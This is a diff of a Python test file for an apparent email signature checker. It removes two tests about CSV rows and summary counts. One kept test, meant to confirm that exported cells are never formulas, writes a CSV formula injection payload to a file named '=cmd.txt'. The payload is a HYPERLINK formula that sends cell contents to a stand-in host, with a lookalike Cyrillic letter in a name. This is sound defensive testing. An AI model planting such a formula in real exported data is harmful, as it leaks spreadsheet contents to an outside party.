@@ -50,20 +50,6 @@ def printed(*args: Any) -> str:
     return out.getvalue()
 
 
-def test_each_finding_is_a_line_with_file_code_clause_strength_and_excerpt(folder: Path) -> None:
-    rows = list(csv.reader(io.StringIO(printed(str(folder), "--csv"))))
-    assert [",".join(row) for row in rows] == [
-        "file,code,clause,strength,excerpt",
-        "by its address.txt,name-differs,signature-required,question,Elena Brightwater",
-        "nobody.txt,email-elsewhere,district-accounts,question,ana@school.example.net",
-        "scan.png,not-readable,signature-guidelines,question,picture",
-        "school/ben.otter.htm,name-missing,signature-required,binds,",
-        'school/ben.otter.htm,wallpaper,signature-background,advises,body background="x.png"',
-        "school/ben.otter.htm,email-differs,signature-required,question,elena.rivera@larkspur.example",
-        "sent.eml,no-signature,signature-required,question,",
-    ]
-
-
 def test_no_cell_is_a_formula(tmp_path: Path) -> None:
     formula = '=HYPERLINK("http://img.example.net/?x="&A1) \u0415lena Rivera\nTeacher\na@b.example'
     (tmp_path / "=cmd.txt").write_text(formula)
@@ -91,10 +77,6 @@ def test_a_file_that_cannot_be_read_leaves_the_others(
     told = printed(str(folder))
     assert "nobody.txt  not-readable" in told
     assert "Files: 6." in told
-
-
-def test_without_csv_it_says_how_many_there_are(folder: Path) -> None:
-    assert "Files: 6. Without a finding: 1. Findings: 7." in printed(str(folder))
 
 
 def test_the_number_of_files_costs_no_queries(
